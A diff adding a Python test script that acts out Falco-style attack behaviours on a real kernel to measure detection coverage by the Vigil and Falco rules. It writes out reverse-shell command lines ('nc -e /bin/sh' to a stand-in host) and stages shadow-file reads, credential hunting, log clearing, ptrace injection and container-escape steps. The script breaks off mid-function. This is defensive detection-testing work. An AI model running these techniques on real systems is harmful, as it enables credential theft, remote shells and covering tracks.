@@ -1,0 +1,913 @@
+#!/usr/bin/env python3
+"""Live detection coverage: Falco's stable behaviours (and more), acted out for real.
+
+Each behaviour is a real process doing real system calls on this kernel, on the host or
+inside a simulated pod (kubelet/containerd cgroup + containerd bundle; an overlay root
+where the rule is about the image). One `vigil run` loads Vigil's default rules and
+(when given) Falco's rules with `rule_matching: all`; every behaviour carries a token
+(in its command line or file names) so its alerts are found in the stream.
+
+For each behaviour the report says which Falco rule and which Vigil default rules fired,
+and whether the Vigil alert named the container and the pod. `--table` prints the
+Markdown table of rules/README.md from the same list.
+
+Usage: coverage.py --vigil BIN --repo DIR [--falco-rules FILE] --out REPORT.json
+"""
+import argparse
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import livelib as L  # noqa: E402
+
+POD, PRIV, HOST = "pod", "privileged pod", "host"
+
+
+class Behaviour:
+    def __init__(self, bid, what, falco, vigil, where, fn, note="", background=False):
+        self.id, self.what, self.vigil, self.where, self.fn = bid, what, vigil, where, fn
+        self.note, self.background = note, background
+        self.incubating = bool(falco and falco.endswith(" (incubating)"))
+        self.falco = falco[: -len(" (incubating)")] if self.incubating else falco
+        self.token = "live-" + bid
+
+
+BEHAVIOURS = []
+
+
+def behaviour(bid, what, falco, vigil, where=HOST, note="", background=False):
+    def deco(fn):
+        BEHAVIOURS.append(Behaviour(bid, what, falco, vigil if isinstance(vigil, list) else [vigil], where, fn, note, background))
+        return fn
+    return deco
+
+
+class Ctx:
+    """What a behaviour needs: a scratch directory (same file system as /etc), the pods."""
+
+    def __init__(self, scratch, pods):
+        self.scratch = scratch
+        self.pods = pods
+
+    def dir(self, b):
+        d = os.path.join(self.scratch, b.token)
+        os.makedirs(d, exist_ok=True)
+        return d
+
+    def runner(self, b):
+        """Runs a command (in the behaviour's pod), retrying an exec that fails with ETXTBSY:
+        another thread forked while a fresh copy was open for writing."""
+        pod = self.pods.get(b.where)
+        run = pod.run if pod else L.run
+
+        def retrying(argv, **kw):
+            for attempt in range(100):
+                try:
+                    return run(argv, **kw)
+                except OSError as e:
+                    if e.errno != 26 or attempt == 99:
+                        raise
+                    time.sleep(0.02)
+        return retrying
+
+    def py(self, b, code, name=None, **kw):
+        """Python code as a real process (in the behaviour's pod); the token leads the command."""
+        exe = None
+        if name:
+            exe = os.path.join(self.dir(b), name)
+            if not os.path.exists(exe):
+                L.copy_program(L.PYTHON, exe)
+        return L.py(f"#{b.token}\n" + code, name=exe, runner=self.runner(b), **kw)
+
+    def tool(self, b, name, src="/bin/true"):
+        """A stand-in program with the given name (the rules look at the exec, not the tool's work)."""
+        exe = os.path.join(self.dir(b), "bin", name)
+        if not os.path.exists(exe):
+            L.copy_program(os.path.realpath(src), exe)
+        return exe
+
+
+SENSITIVE_READ = "Sensitive authentication file read"
+CRED_HUNT = "Credential hunting with search tools"
+LINK = "Link to sensitive file created"
+
+# ---------------------------------------------------------------------------
+# Falco's stable rules
+# ---------------------------------------------------------------------------
+
+
+@behaviour("traversal", "read /etc/shadow through ../ (a path-traversal bug)", "Directory traversal monitored file read", SENSITIVE_READ)
+def _(c, b):
+    c.py(b, "open('/etc/../etc/../etc/shadow').read()")
+
+
+@behaviour("traversal-openat2-pod", "same, openat2 and another spelling, in a pod", "Directory traversal monitored file read", SENSITIVE_READ, POD)
+def _(c, b):
+    c.py(b, "import livelib as L, os\nfd = L.openat2('/etc/ssh/../../etc/./shadow')\nassert fd >= 0, fd\nos.close(fd)",
+         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+TRUSTED_AFTER_STARTUP = "import time, os\ntime.sleep(6)\nfd = os.open('{path}', os.O_RDONLY)\nos.close(fd)"
+
+
+@behaviour("trusted-after-startup", "a web server (httpd) reads /etc/shadow 6 s after it started",
+           "Read sensitive file trusted after startup", SENSITIVE_READ, background=True)
+def _(c, b):
+    c.py(b, TRUSTED_AFTER_STARTUP.format(path="/etc/shadow"), name="httpd")
+
+
+@behaviour("trusted-after-startup-pod", "nginx in a pod reads /etc/shadow (other spelling: //etc//shadow) after startup",
+           "Read sensitive file trusted after startup", SENSITIVE_READ, POD, background=True)
+def _(c, b):
+    c.py(b, TRUSTED_AFTER_STARTUP.format(path="//etc//shadow"), name="nginx")
+
+
+@behaviour("untrusted-read", "a program reads /etc/shadow", "Read sensitive file untrusted", SENSITIVE_READ)
+def _(c, b):
+    c.py(b, "open('/etc/shadow').read()")
+
+
+@behaviour("untrusted-read-openat2-pod", "openat2 of /etc/shadow in a pod", "Read sensitive file untrusted", SENSITIVE_READ, POD)
+def _(c, b):
+    c.py(b, "import livelib as L, os\nfd = L.openat2('/etc/shadow')\nassert fd >= 0, fd\nos.close(fd)",
+         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("untrusted-read-relative", "read shadow by a relative path after chdir /etc", "Read sensitive file untrusted", SENSITIVE_READ)
+def _(c, b):
+    c.py(b, "import os\nos.chdir('/etc')\nopen('shadow').read()")
+
+
+@behaviour("untrusted-read-pam", "a program reads a PAM configuration file (/etc/pam.d)", "Read sensitive file untrusted", SENSITIVE_READ, POD)
+def _(c, b):
+    c.py(b, "open('/etc/pam.d/common-auth').read()")
+
+
+@behaviour("renamed-cat-sshd", "a copy of cat renamed sshd reads /etc/shadow (name-based allow-lists)", None, SENSITIVE_READ,
+           note="Falco trusts any program named sshd")
+def _(c, b):
+    c.runner(b)([c.tool(b, "sshd", "/bin/cat"), "/etc/shadow", "/dev/null/" + b.token])
+
+
+@behaviour("renamed-cat-chkpwd-pod", "a copy of cat renamed unix_chkpwd reads /etc/shadow in a pod", None, SENSITIVE_READ, POD,
+           note="Falco trusts any program named unix_chkpwd")
+def _(c, b):
+    c.runner(b)([c.tool(b, "unix_chkpwd", "/bin/cat"), "/etc/shadow", "/dev/null/" + b.token])
+
+
+SPAWN_SHELL = "import subprocess\nsubprocess.run(['{sh}', '-c', 'id > /dev/null # {token}'])"
+
+
+@behaviour("shell-from-httpd", "a web server (httpd) starts a shell", "Run shell untrusted", "Shell spawned by server process")
+def _(c, b):
+    c.py(b, SPAWN_SHELL.format(sh="/bin/sh", token=b.token), name="httpd")
+
+
+@behaviour("shell-from-nginx-pod", "nginx in a pod starts bash", "Run shell untrusted", "Shell spawned by server process", POD)
+def _(c, b):
+    c.py(b, SPAWN_SHELL.format(sh="/bin/bash", token=b.token), name="nginx")
+
+
+@behaviour("shell-from-postgres", "postgres starts dash", "Run shell untrusted", "Shell spawned by server process")
+def _(c, b):
+    c.py(b, SPAWN_SHELL.format(sh="/bin/dash", token=b.token), name="postgres")
+
+
+SYSTEM_LOGIN = """
+import os, pty
+pid, fd = pty.fork()
+if pid == 0:
+    with open('/proc/self/loginuid', 'w') as f:
+        f.write('{uid}')
+    os.setgid({uid}); os.setuid({uid})
+    os.execv('/bin/sh', ['sh', '-c', 'id > /dev/null # {token}'])
+while True:
+    try:
+        if not os.read(fd, 1024):
+            break
+    except OSError:
+        break
+os.waitpid(pid, 0)
+"""
+
+
+@behaviour("system-user-login", "sshd logs in the system account daemon; its shell runs on a terminal",
+           "System user interactive", "Interactive login by system account")
+def _(c, b):
+    c.py(b, SYSTEM_LOGIN.format(uid=1, token=b.token), name="sshd")
+
+
+@behaviour("system-user-login-pod", "same as www-data (uid 33) in a privileged pod (setting the login uid needs CAP_AUDIT_CONTROL)", "System user interactive",
+           "Interactive login by system account", PRIV)
+def _(c, b):
+    c.py(b, SYSTEM_LOGIN.format(uid=33, token=b.token), name="sshd")
+
+
+TTY_SHELL = """
+import os, pty
+pid, fd = pty.fork()
+if pid == 0:
+    os.execv('{sh}', ['{sh}', '-c', 'id > /dev/null # {token}'])
+while True:
+    try:
+        if not os.read(fd, 1024):
+            break
+    except OSError:
+        break
+os.waitpid(pid, 0)
+"""
+
+
+@behaviour("terminal-shell-pod", "a shell on a terminal in a pod, started by the runtime (kubectl exec -it)",
+           "Terminal shell in container", "Interactive shell in container", POD)
+def _(c, b):
+    c.py(b, TTY_SHELL.format(sh="/bin/sh", token=b.token), name="containerd-shim")
+
+
+@behaviour("terminal-bash-runc-pod", "bash on a terminal in a pod, parent runc", "Terminal shell in container",
+           "Interactive shell in container", POD)
+def _(c, b):
+    c.py(b, TTY_SHELL.format(sh="/bin/bash", token=b.token), name="runc")
+
+
+CONNECT = """
+import socket
+s = socket.socket(socket.{fam}, socket.SOCK_STREAM)
+s.setblocking(False)
+try:
+    s.connect(('{ip}', {port}))
+except (BlockingIOError, OSError):
+    pass
+s.close()
+"""
+
+
+@behaviour("k8s-api-pod", "a pod connects to the Kubernetes API service (10.96.0.1:443)",
+           "Contact K8S API Server From Container", "Kubernetes API server contacted from container", POD,
+           note="Falco's rule compares fd.sip.name with kubernetes.default.svc.cluster.local, which only resolves in a cluster")
+def _(c, b):
+    c.py(b, CONNECT.format(fam="AF_INET", ip="10.96.0.1", port=443))
+
+
+@behaviour("k8s-api-6443-pod", "a pod connects to the API server port 6443", "Contact K8S API Server From Container",
+           "Kubernetes API server contacted from container", POD, note="as above")
+def _(c, b):
+    c.py(b, CONNECT.format(fam="AF_INET", ip="10.96.0.1", port=6443))
+
+
+@behaviour("netcat-e-pod", "nc -e /bin/sh HOST PORT in a pod", "Netcat Remote Code Execution in Container", "Netcat-style reverse shell", POD)
+def _(c, b):
+    c.runner(b)([c.tool(b, "nc"), "-e", "/bin/sh", "198.51.100.7", "4444", "-v" + b.token])
+
+
+@behaviour("netcat-order-pod", "nc HOST PORT -e/bin/sh (option last, glued value) in a pod",
+           "Netcat Remote Code Execution in Container", "Netcat-style reverse shell", POD)
+def _(c, b):
+    c.runner(b)([c.tool(b, "nc"), "-v" + b.token, "198.51.100.7", "4444", "-e/bin/sh"])
+
+
+@behaviour("ncat-sh-exec-pod", "ncat --sh-exec in a pod", "Netcat Remote Code Execution in Container", "Netcat-style reverse shell", POD)
+def _(c, b):
+    c.runner(b)([c.tool(b, "ncat"), "--sh-exec", "sh -i", "198.51.100.7", "4444", "-v" + b.token])
+
+
+@behaviour("grep-private-key", "grep -r 'BEGIN RSA PRIVATE' over files", "Search Private Keys or Passwords", CRED_HUNT)
+def _(c, b):
+    c.runner(b)(["grep", "-r", "BEGIN RSA PRIVATE", c.dir(b)])
+
+
+@behaviour("grep-openssh-key-pod", "grep -ril 'begin openssh private key' in a pod", "Search Private Keys or Passwords", CRED_HUNT, POD)
+def _(c, b):
+    c.runner(b)(["grep", "-ril", "begin openssh private key", c.dir(b)])
+
+
+@behaviour("find-id-ed25519", "find DIR -name id_ed25519", "Search Private Keys or Passwords", CRED_HUNT)
+def _(c, b):
+    c.runner(b)(["find", c.dir(b), "-name", "id_ed25519"])
+
+
+def write_new(path, data):
+    """Creates a file without O_TRUNC (setting up must not look like clearing a log)."""
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o640)
+    os.write(fd, data)
+    os.close(fd)
+
+
+def log_dir(c, b):
+    d = os.path.join("/var/log", "vigil-" + os.path.basename(c.scratch), b.token)
+    os.makedirs(d, exist_ok=True)
+    return d
+
+
+@behaviour("clear-auth-log", "truncate an auth.log below /var/log", "Clear Log Activities", "Log file cleared or deleted")
+def _(c, b):
+    p = os.path.join(log_dir(c, b), "auth.log")
+    write_new(p, b"Dec  5 10:00:00 host sshd[1]: Accepted publickey for root\n")
+    c.py(b, f"open('{p}', 'w').close()")
+
+
+@behaviour("clear-syslog-shell-pod", "': > syslog' from a shell in a pod", "Clear Log Activities", "Log file cleared or deleted", POD)
+def _(c, b):
+    p = os.path.join(log_dir(c, b), "syslog")
+    write_new(p, b"Dec  5 10:00:00 host kernel: booted\n")
+    c.runner(b)(["/bin/sh", "-c", f": > {p}"])
+
+
+@behaviour("shred-file", "shred -u a file", "Remove Bulk Data from Disk", "Data destruction tool run")
+def _(c, b):
+    p = os.path.join(c.dir(b), "data.bin")
+    with open(p, "wb") as f:
+        f.write(os.urandom(4096))
+    c.runner(b)(["shred", "-u", p])
+
+
+@behaviour("mkfs-loop", "mke2fs formats a block device (a loop device)", "Remove Bulk Data from Disk", "Data destruction tool run")
+def _(c, b):
+    img = os.path.join(c.dir(b), "disk.img")
+    with open(img, "wb") as f:
+        f.truncate(8 << 20)
+    loop = subprocess.run(["losetup", "-f", "--show", img], capture_output=True, text=True, timeout=30).stdout.strip()
+    if not loop:
+        raise RuntimeError("losetup failed")
+    try:
+        c.runner(b)(["mke2fs", "-q", "-F", "-L", b.token[:16], loop])
+    finally:
+        subprocess.run(["losetup", "-d", loop], timeout=30)
+
+
+@behaviour("symlink-shadow", "ln -s /etc/shadow", "Create Symlink Over Sensitive Files", LINK)
+def _(c, b):
+    c.runner(b)(["ln", "-s", "/etc/shadow", os.path.join(c.dir(b), "s")])
+
+
+@behaviour("symlinkat-root-pod", "symlinkat to /root (a sensitive directory) in a pod", "Create Symlink Over Sensitive Files", LINK, POD)
+def _(c, b):
+    d = c.dir(b)
+    c.py(b, f"import os\nfd = os.open('{d}', os.O_RDONLY)\nos.symlink('/root', 'r', dir_fd=fd)")
+
+
+@behaviour("hardlink-shadow", "ln /etc/shadow (a hard link, linkat)", "Create Hardlink Over Sensitive Files", LINK)
+def _(c, b):
+    c.runner(b)(["ln", "/etc/shadow", os.path.join(c.dir(b), "h")])
+
+
+@behaviour("hardlink-shadow-pod", "os.link of /etc/shadow in a pod", "Create Hardlink Over Sensitive Files", LINK, POD)
+def _(c, b):
+    c.py(b, f"import os\nos.link('/etc/shadow', '{c.dir(b)}/h2')")
+
+
+@behaviour("packet-socket-pod", "AF_PACKET raw socket in a pod", "Packet socket created in container", "Raw packet socket created in container", POD)
+def _(c, b):
+    c.py(b, "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()")
+
+
+@behaviour("packet-dgram-pod", "AF_PACKET datagram socket in a pod", "Packet socket created in container", "Raw packet socket created in container", POD)
+def _(c, b):
+    c.py(b, "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300).close()")
+
+
+REDIRECT = """
+import os, socket
+srv = socket.socket(socket.{fam}, socket.SOCK_STREAM)
+srv.bind(('{ip}', 0)); srv.listen(1)
+cl = socket.create_connection(srv.getsockname()[:2])
+conn, _ = srv.accept()
+for target in {targets}:
+    os.dup2(cl.fileno(), target, inheritable={inheritable})
+"""
+
+
+@behaviour("redirect-dup2-pod", "a TCP socket dup2'ed onto stdin and stdout in a pod (reverse shell)",
+           "Redirect STDOUT/STDIN to Network Connection in Container", "Standard stream redirected to network socket in container", POD)
+def _(c, b):
+    c.py(b, REDIRECT.format(fam="AF_INET", ip="127.0.0.1", targets="(0, 1)", inheritable=True))
+
+
+@behaviour("redirect-dup3-v6-pod", "dup3 of an IPv6 socket onto stderr in a pod",
+           "Redirect STDOUT/STDIN to Network Connection in Container", "Standard stream redirected to network socket in container", POD)
+def _(c, b):
+    c.py(b, REDIRECT.format(fam="AF_INET6", ip="::1", targets="(2,)", inheritable=False))
+
+
+@behaviour("finit-module-pod", "finit_module from a pod", "Linux Kernel Module Injection Detected", "Kernel module loaded from container", PRIV)
+def _(c, b):
+    p = os.path.join(c.dir(b), "rootkit.ko")
+    with open(p, "wb") as f:
+        f.write(b"\x7fELF" + b"\0" * 60)
+    c.py(b, f"import livelib as L, os\nfd = os.open('{p}', os.O_RDONLY)\nL.syscall('finit_module', fd, '', 0)",
+         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("init-module-pod", "init_module (module image in memory) from a pod", "Linux Kernel Module Injection Detected",
+           "Kernel module loaded from container", PRIV)
+def _(c, b):
+    c.py(b, "import livelib as L, ctypes\nbuf = ctypes.create_string_buffer(b'\\x7fELF' + b'\\0' * 60)\nL.syscall('init_module', buf, 64, '')",
+         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("debugfs-privileged-pod", "debugfs in a privileged pod", "Debugfs Launched in Privileged Container",
+           "Filesystem debugger run in container", PRIV)
+def _(c, b):
+    img = os.path.join(c.dir(b), "fs.img")
+    c.runner(b)(["debugfs", "-R", "stats", img])
+
+
+RELEASE_AGENT = """
+import livelib as L, os, ctypes
+assert L.libc.unshare(L.CLONE_NEWNS) == 0
+L.libc.mount(None, b'/', None, L.MS_REC | L.MS_PRIVATE, None)
+d = '{d}/cg'
+os.makedirs(d, exist_ok=True)
+mounted = L.libc.mount(b'cgroup', d.encode(), b'cgroup', 0, b'none,name=vigil-live') == 0
+fd = os.open(d + '/release_agent', os.O_WRONLY | (0 if mounted else os.O_CREAT), 0o644)
+os.close(fd)
+if mounted:
+    L.libc.umount2(d.encode(), 2)
+"""
+
+
+@behaviour("release-agent-pod", "a privileged pod mounts a cgroup v1 hierarchy and opens release_agent for writing",
+           "Detect release_agent File Container Escapes", "Cgroup release_agent written", PRIV)
+def _(c, b):
+    c.py(b, RELEASE_AGENT.format(d=c.dir(b)), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+PTRACE = """
+import livelib as L, os, subprocess, time, ctypes
+child = subprocess.Popen(['sleep', '30'])
+time.sleep(0.1)
+r = L.syscall('ptrace', {req}, child.pid, 0, 0)
+os.waitpid(child.pid, 0) if {req} == 16 else None
+if {poke}:
+    L.syscall('ptrace', 5, child.pid, 0x400000, 0)
+L.syscall('ptrace', 17, child.pid, 0, 0)
+child.kill(); child.wait()
+"""
+
+
+@behaviour("ptrace-attach", "PTRACE_ATTACH to another process", "PTRACE attached to process", "Process injection via ptrace")
+def _(c, b):
+    c.py(b, PTRACE.format(req=16, poke=False), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("ptrace-seize-poke-pod", "PTRACE_SEIZE then PTRACE_POKEDATA in a pod", "PTRACE attached to process",
+           "Process injection via ptrace", POD)
+def _(c, b):
+    c.py(b, PTRACE.format(req=0x4206, poke=True), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("ptrace-traceme", "PTRACE_TRACEME (anti-debugging)", "PTRACE anti-debug attempt", "Anti-debugging with PTRACE_TRACEME")
+def _(c, b):
+    c.py(b, "import livelib as L\nL.syscall('ptrace', 0, 0, 0, 0)", env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("ptrace-traceme-pod", "PTRACE_TRACEME in a pod", "PTRACE anti-debug attempt", "Anti-debugging with PTRACE_TRACEME", POD)
+def _(c, b):
+    c.py(b, "import livelib as L\nL.syscall('ptrace', 0, 0, 0, 0)", env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("grep-aws-keys", "grep -r aws_secret_access_key", "Find AWS Credentials", CRED_HUNT)
+def _(c, b):
+    c.runner(b)(["grep", "-r", "aws_secret_access_key", c.dir(b)])
+
+
+@behaviour("grep-accesskeyid-pod", "grep -ri AccessKeyId in a pod", "Find AWS Credentials", CRED_HUNT, POD)
+def _(c, b):
+    c.runner(b)(["grep", "-ri", "AccessKeyId", c.dir(b)])
+
+
+@behaviour("find-aws-credentials", "find DIR -path '*.aws/credentials'", "Find AWS Credentials", CRED_HUNT)
+def _(c, b):
+    c.runner(b)(["find", c.dir(b), "-path", "*.aws/credentials"])
+
+
+def shm_copy(c, b):
+    d = os.path.join("/dev/shm", "vigil-" + os.path.basename(c.scratch), b.token)
+    os.makedirs(d, exist_ok=True)
+    return L.copy_program("/bin/true", os.path.join(d, "payload"))
+
+
+@behaviour("exec-dev-shm", "run a program from /dev/shm", "Execution from /dev/shm", "Execution from temporary directory")
+def _(c, b):
+    p = shm_copy(c, b)
+    c.runner(b)([p, b.token])
+
+
+@behaviour("exec-dev-shm-cwd-pod", "cd /dev/shm/...; ./payload in a pod", "Execution from /dev/shm", "Execution from temporary directory", POD)
+def _(c, b):
+    p = shm_copy(c, b)
+    c.runner(b)(["./payload", b.token], cwd=os.path.dirname(p), executable=p)
+
+
+@behaviour("exec-dev-shm-execveat", "execveat of an fd opened on /dev/shm", "Execution from /dev/shm", "Execution from temporary directory")
+def _(c, b):
+    p = shm_copy(c, b)
+    code = (f"import livelib as L, os, ctypes\nfd = os.open('{p}', os.O_RDONLY)\n"
+            f"argv = (ctypes.c_char_p * 3)(b'{p}', b'{b.token}', None)\nenvp = (ctypes.c_char_p * 1)(None)\n"
+            "pid = os.fork()\nif pid == 0:\n    L.syscall('execveat', fd, '', argv, envp, L.AT_EMPTY_PATH)\n    os._exit(1)\nos.waitpid(pid, 0)")
+    c.py(b, code, env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("exec-dev-shm-sh-c", "sh -c /dev/shm/payload", "Execution from /dev/shm", "Execution from temporary directory")
+def _(c, b):
+    p = shm_copy(c, b)
+    c.runner(b)(["/bin/sh", "-c", f"{p} {b.token}"])
+
+
+DROP_EXEC = """
+import livelib as L, os, shutil, ctypes
+assert L.libc.unshare(L.CLONE_NEWNS) == 0
+L.libc.mount(None, b'/', None, L.MS_REC | L.MS_PRIVATE, None)
+d = '{d}'
+for s in ('lower/usr/bin', 'upper', 'work', 'rootfs'):
+    os.makedirs(os.path.join(d, s), exist_ok=True)
+shutil.copy('/bin/true', d + '/lower/usr/bin/true')
+opts = 'lowerdir={{0}}/lower,upperdir={{0}}/upper,workdir={{0}}/work'.format(d).encode()
+assert L.libc.mount(b'overlay', (d + '/rootfs').encode(), b'overlay', 0, opts) == 0, ctypes.get_errno()
+shutil.copy('/bin/true', d + '/rootfs/usr/bin/{name}')  # dropped after start: upper layer
+os.chmod(d + '/rootfs/usr/bin/{name}', 0o755)
+pid = os.fork()
+if pid == 0:
+    {exec}
+    os._exit(1)
+os.waitpid(pid, 0)
+"""
+
+
+@behaviour("drop-exec-pod", "a binary written into the container's overlay root after start is executed",
+           "Drop and execute new binary in container", "Dropped binary executed in container", PRIV)
+def _(c, b):
+    code = DROP_EXEC.format(d=c.dir(b), name="kworker", exec=f"os.execv(d + '/rootfs/usr/bin/kworker', ['kworker', '{b.token}'])")
+    c.py(b, code, env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("drop-execveat-pod", "same, executed with execveat on an fd", "Drop and execute new binary in container",
+           "Dropped binary executed in container", PRIV)
+def _(c, b):
+    ex = ("fd = os.open(d + '/rootfs/usr/bin/miner', os.O_RDONLY); "
+          f"argv = (ctypes.c_char_p * 3)(b'miner', b'{b.token}', None); envp = (ctypes.c_char_p * 1)(None); "
+          "L.syscall('execveat', fd, '', argv, envp, L.AT_EMPTY_PATH)")
+    c.py(b, DROP_EXEC.format(d=c.dir(b), name="miner", exec=ex), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+def ssh_to(c, b, port):
+    c.runner(b)(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1", "-o", "StrictHostKeyChecking=no",
+                 "-o", "UserKnownHostsFile=/dev/null", "-p", str(port), f"{b.token}@203.0.113.9", "true"], timeout=20)
+
+
+@behaviour("ssh-port-443", "ssh to a public address on port 443", "Disallowed SSH Connection Non Standard Port",
+           "SSH connection to a web or DNS port")
+def _(c, b):
+    ssh_to(c, b, 443)
+
+
+@behaviour("ssh-port-4444-pod", "ssh to port 4444 from a pod", "Disallowed SSH Connection Non Standard Port",
+           ["SSH connection to a web or DNS port", "Connection to mining pool or C2 port"], POD)
+def _(c, b):
+    ssh_to(c, b, 4444)
+
+
+@behaviour("ssh-port-8080", "ssh to port 8080", "Disallowed SSH Connection Non Standard Port", "SSH connection to a web or DNS port")
+def _(c, b):
+    ssh_to(c, b, 8080)
+
+
+MEMFD_EXEC = """
+import livelib as L, os, ctypes
+fd = os.memfd_create('{name}', 0)
+os.write(fd, open('/bin/true', 'rb').read())
+pid = os.fork()
+if pid == 0:
+    {exec}
+    os._exit(1)
+os.waitpid(pid, 0)
+"""
+
+
+@behaviour("memfd-exec", "a program run from a memfd through /proc/self/fd", "Fileless execution via memfd_create",
+           "Fileless execution from memfd")
+def _(c, b):
+    c.py(b, MEMFD_EXEC.format(name="payload", exec=f"os.execv('/proc/self/fd/%d' % fd, ['payload', '{b.token}'])"),
+         env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+@behaviour("memfd-execveat-pod", "a memfd executed with execveat(AT_EMPTY_PATH) in a pod", "Fileless execution via memfd_create",
+           "Fileless execution from memfd", POD)
+def _(c, b):
+    ex = (f"argv = (ctypes.c_char_p * 3)(b'kthreadd', b'{b.token}', None); envp = (ctypes.c_char_p * 1)(None); "
+          "L.syscall('execveat', fd, '', argv, envp, L.AT_EMPTY_PATH)")
+    c.py(b, MEMFD_EXEC.format(name="", exec=ex), env={"PYTHONPATH": os.path.dirname(os.path.abspath(__file__))})
+
+
+# ---------------------------------------------------------------------------
+# Node-security behaviours of Falco's incubating rules and of Tracee's signatures
+# ---------------------------------------------------------------------------
+INC = " (incubating)"
+LIVE = os.path.dirname(os.path.abspath(__file__))
+
+
+def home_dir(c, b):
+    d = os.path.join("/home", "vigil-" + os.path.basename(c.scratch) + "-" + b.id)
+    os.makedirs(os.path.join(d, ".ssh"), exist_ok=True)
+    return d
+
+
+@behaviour("core-pattern-write", "core_pattern opened for writing (its value written back unchanged)", None,
+           "Kernel usermode helper changed", note="no Falco rule; Tracee: core_pattern modification")
+def _(c, b):
+    c.py(b, "p = '/proc/sys/kernel/core_pattern'\nv = open(p).read()\nf = open(p, 'w')\nf.write(v)\nf.close()")
+
+
+@behaviour("proc-mem-write-pod", "a process opens another's /proc/PID/mem for writing in a pod", None,
+           "Process memory written through /proc", POD, note="no Falco rule; Tracee: code injection through /proc/PID/mem")
+def _(c, b):
+    c.py(b, "import subprocess, os\nchild = subprocess.Popen(['sleep', '30'])\n"
+            "fd = os.open('/proc/%d/mem' % child.pid, os.O_RDWR)\nos.close(fd)\nchild.kill(); child.wait()")
+
+
+@behaviour("kcore-read", "/proc/kcore opened for reading", None, "Kernel memory read",
+           note="no Falco rule; Tracee: kernel memory read (/proc/kcore)")
+def _(c, b):
+    c.py(b, "import os\nos.close(os.open('/proc/kcore', os.O_RDONLY))")
+
+
+@behaviour("sa-token-cat-pod", "cat of the service account token in a pod", None, "Service account token read in container", POD,
+           note="no Falco rule; Tracee: service account token read")
+def _(c, b):
+    d = "/var/run/secrets/kubernetes.io/serviceaccount"
+    created = not os.path.exists("/var/run/secrets")
+    os.makedirs(d, exist_ok=True)
+    if not os.path.exists(d + "/token"):
+        with open(d + "/token", "w") as f:
+            f.write("eyJhbGciOiJSUzI1NiJ9.e30.sig")
+    try:
+        c.runner(b)(["cat", d + "/token", "/dev/null/" + b.token])
+    finally:
+        if created:
+            shutil.rmtree("/var/run/secrets", ignore_errors=True)
+
+
+@behaviour("runtime-socket-pod", "a pod connects to a docker.sock", None, "Container runtime socket accessed from container", POD,
+           note="no Falco rule; Tracee: container runtime socket access")
+def _(c, b):
+    sock = os.path.join(c.dir(b), "docker.sock")
+    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    srv.bind(sock)
+    srv.listen(1)
+    try:
+        c.py(b, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{sock}')\ns.close()")
+    finally:
+        srv.close()
+
+
+@behaviour("cron-job-write", "a file written below /etc/cron.d", "Schedule Cron Jobs" + INC, "Cron job created or modified")
+def _(c, b):
+    p = f"/etc/cron.d/vigil-{os.path.basename(c.scratch)}"
+    try:
+        c.py(b, f"open('{p}', 'w').write('* * * * * root true\\n')")
+    finally:
+        if os.path.exists(p):
+            os.unlink(p)
+
+
+@behaviour("ssh-key-read", "a user's SSH private key read by a non-SSH program", "Read ssh information" + INC, "SSH private key read")
+def _(c, b):
+    h = home_dir(c, b)
+    with open(os.path.join(h, ".ssh", "id_ed25519"), "w") as f:
+        f.write("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    try:
+        c.py(b, f"open('{h}/.ssh/id_ed25519').read()")
+    finally:
+        shutil.rmtree(h, ignore_errors=True)
+
+
+@behaviour("authorized-keys-write-pod", "a key appended to a user's authorized_keys in a pod",
+           "Adding ssh keys to authorized_keys" + INC, "SSH authorized keys modified", POD)
+def _(c, b):
+    h = home_dir(c, b)
+    try:
+        c.py(b, f"open('{h}/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA attacker\\n')")
+    finally:
+        shutil.rmtree(h, ignore_errors=True)
+
+
+@behaviour("history-delete", "a shell history file deleted", "Delete or rename shell history" + INC, "Shell history deleted or tampered")
+def _(c, b):
+    p = os.path.join(c.dir(b), ".bash_history")
+    with open(p, "w") as f:
+        f.write("ls\n")
+    c.runner(b)(["rm", "-f", p])
+
+
+@behaviour("setns-priv-pod", "setns in a privileged pod", "Change thread namespace" + INC, "Namespace change in container", PRIV)
+def _(c, b):
+    c.py(b, "import livelib as L, os\nfd = os.open('/proc/self/ns/net', os.O_RDONLY)\nL.syscall('setns', fd, 0)",
+         env={"PYTHONPATH": LIVE})
+
+
+@behaviour("unshare-user-pod", "unshare(CLONE_NEWUSER) in an unprivileged pod", "Change namespace privileges via unshare" + INC,
+           "Namespace change in container", POD)
+def _(c, b):
+    c.py(b, "import livelib as L\nL.syscall('unshare', 0x10000000)", env={"PYTHONPATH": LIVE})
+
+
+@behaviour("setuid-regain-root", "a process running as uid 1000 with saved uid 0 sets its uid back to 0", "Non sudo setuid" + INC,
+           "Unexpected setuid to root")
+def _(c, b):
+    c.py(b, "import os\nos.setresuid(1000, 1000, 0)\nos.setuid(0)")
+
+
+@behaviour("setuid-bit", "chmod u+s on a file", "Set Setuid or Setgid bit" + INC, "Setuid or setgid bit set")
+def _(c, b):
